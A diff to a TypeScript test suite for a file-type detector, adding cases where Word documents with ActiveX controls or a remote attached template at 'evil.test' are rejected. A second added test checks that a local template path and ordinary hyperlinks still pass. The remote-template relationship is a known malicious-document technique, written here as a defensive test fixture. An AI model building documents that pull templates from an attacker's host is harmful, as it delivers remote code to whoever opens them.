@@ -56,6 +56,11 @@ describe('a file is what its content is', () => {
         types: `<Override PartName="/word/pictures.bin" ContentType="${types}"/>`,
       }),
     ],
+    ['a Word document with controls', wordOf({ more: ['word/activeX/activeX1.xml'] })],
+    [
+      'a Word document that fetches its template',
+      wordOf({ more: [['word/_rels/settings.xml.rels', template('https://evil.test/a.dotm')]] }),
+    ],
     ['a Word document cut short', wordOf().slice(0, -30)],
     ['a zip archive that is only its first bytes', Uint8Array.of(0x50, 0x4b, 3, 4)],
     ['text with a control character', Uint8Array.of(65, 0, 66)],
@@ -87,6 +92,22 @@ describe('a file is what its content is', () => {
     expect(await kindOfContent(both)).toBeUndefined();
   });
 });
+
+test('a Word document may name the template of its writer’s own computer, and link to pages', async () => {
+  const link =
+    '<Relationships><Relationship Type="x/hyperlink" Target="https://c.test/" TargetMode="External"/></Relationships>';
+  const own = wordOf({
+    more: [
+      ['word/_rels/settings.xml.rels', template('file:///C:/Users/Ann/Normal.dotm')],
+      ['word/_rels/document.xml.rels', link],
+    ],
+  });
+  expect(await kindOfContent(own)).toBe('docx');
+});
+
+function template(target: string): string {
+  return `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;
+}
 
 describe('a file that is made to cost time costs little', () => {
   test.each([
